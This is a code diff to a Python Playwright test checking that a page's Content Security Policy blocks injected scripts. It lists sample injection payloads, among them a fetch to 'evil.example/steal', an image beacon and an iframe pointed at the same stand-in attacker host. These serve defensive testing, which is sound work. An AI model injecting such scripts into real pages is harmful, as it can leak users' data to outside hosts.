@@ -17,16 +17,18 @@ Serve = Any
         "document.body.setAttribute('onclick', 'alert(1)'); document.body.click()",
         "fetch('https://evil.example/steal')",
         "const i = new Image(); i.src = 'https://evil.example/x.png'",
-        "document.body.append(Object.assign(document.createElement('iframe'), {src: '/inspector'}))",
+        "document.body.append(Object.assign(document.createElement('iframe'), {src: 'https://evil.example/frame'}))",
     ],
 )
 def test_policy_blocks_injected_scripts(page: Page, served: Serve, attack: str) -> None:
     page.goto(served())
+    # A promise: the policy also forbids the evaluations with which `wait_for_function()` polls.
     page.evaluate(
-        "document.addEventListener('securitypolicyviolation', (e) => { window.stopped = e.effectiveDirective; })"
+        "window.stopped = new Promise((resolve) => { window.stop = resolve; "
+        "document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective)); }); null"
     )
-    page.evaluate(f"try {{ {attack} }} catch (error) {{ window.stopped ||= String(error); }} null")
-    page.wait_for_function("window.stopped")
+    page.evaluate(f"try {{ {attack} }} catch (error) {{ window.stop(String(error)); }} null")
+    assert page.evaluate("window.stopped")
     page.problems.clear()  # type: ignore[attr-defined]  # Chromium logs each violation
     assert "pwned" not in page.title()
 
